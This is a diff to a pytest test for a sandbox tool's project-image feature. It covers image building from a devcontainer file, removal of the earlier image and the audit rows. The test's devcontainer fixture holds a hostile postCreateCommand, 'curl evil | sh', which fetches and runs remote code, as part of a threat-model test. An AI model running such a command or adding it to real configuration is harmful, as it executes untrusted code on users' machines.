@@ -151,6 +151,15 @@ def fleet(daemon: TestEngine, engine: Engine, postgres: Postgres, tmp_path: Path
         yield Fleet({**place, "POINTSMAN_BOX__CACHE": str(Path.home() / ".cache/pointsman/box")}, yard)
 
 
+def earlier_image(fleet: Fleet, engine: Engine, folder: Path) -> str:
+    """Let the project have an image already, a small one: to build one takes ten seconds of the processor."""
+    file = write(folder / "earlier", "FROM scratch\nCOPY tool /\n")
+    image, _ = engine.client.images.build(path=str(file.parent), tag="pointsman-project:earlier", rm=True)
+    with fleet.yard.shop.ledger.begin() as session:
+        set_project_image(session, "acme", "shop", {"id": image.id}, actor="operator")
+    return str(image.id)
+
+
 @pytest.mark.threat("A2", "A14")
 def test_an_operator_gives_a_project_an_image_which_brings_tools_and_takes_no_wall_away_until_it_is_removed(
     fleet: Fleet, engine: Engine, maker: DockerMaker, daemon: TestEngine, tmp_path: Path
@@ -165,28 +174,28 @@ def test_an_operator_gives_a_project_an_image_which_brings_tools_and_takes_no_wa
     args = json.dumps({"base": shipped})
     build = f'{{"dockerfile": "../ci/Dockerfile", "context": "..", "args": {args}}}'
     file.write_text(f'{{"build": {build}, // ours\n "postCreateCommand": "curl evil | sh"}}')
+    earlier = earlier_image(fleet, engine, tmp_path)
     words = ("image", "build", "--project", "shop", "--network", "none", "--devcontainer", str(file))
-    first = fleet.command(*words)
-    assert first["dropped"] == ["SECRET"]
+    built = fleet.command(*words)
+    with pytest.raises(SandboxUnavailableError, match="image_missing"):
+        engine.image_id(earlier)
+    assert built["dropped"] == ["SECRET"]
     assert fleet.yard.do(None, "Check it", key="again").result["issues"] == []
-    box = maker.create(image=first["id"])
+    box = maker.create(image=built["id"])
     try:
-        check_walls(engine, box, own=first["id"], shipped=engine.image_id(shipped))
+        check_walls(engine, box, own=built["id"], shipped=engine.image_id(shipped))
     finally:
         box.close()
     shown = fleet.command("project", "show", "shop")["image"]
-    assert shown == {"id": first["id"], "reference": first["reference"], "source": "dockerfile:Dockerfile"}
+    assert shown == {"id": built["id"], "reference": built["reference"], "source": "dockerfile:Dockerfile"}
 
-    second = fleet.command(*words)
-    with pytest.raises(SandboxUnavailableError, match="image_missing"):
-        engine.image_id(first["id"])
     assert fleet.command("image", "remove", "--project", "shop")["is_removed"]
     with pytest.raises(SandboxUnavailableError, match="image_missing"):
-        engine.image_id(second["id"])
+        engine.image_id(built["id"])
     assert fleet.yard.do(None, "Check it", key="third").result["issues"]
     rows = fleet.yard.shop.rows("SELECT actor, detail FROM audit WHERE action = 'project_image' ORDER BY seq")
     assert [row.actor for row in rows] == ["operator"] * 3
-    assert [(row.detail["image"] or {}).get("id") for row in rows] == [first["id"], second["id"], None]
+    assert [(row.detail["image"] or {}).get("id") for row in rows] == [earlier, built["id"], None]
 
 
 def test_doctor_names_the_images_that_steps_will_lack(fleet: Fleet, daemon: TestEngine) -> None:
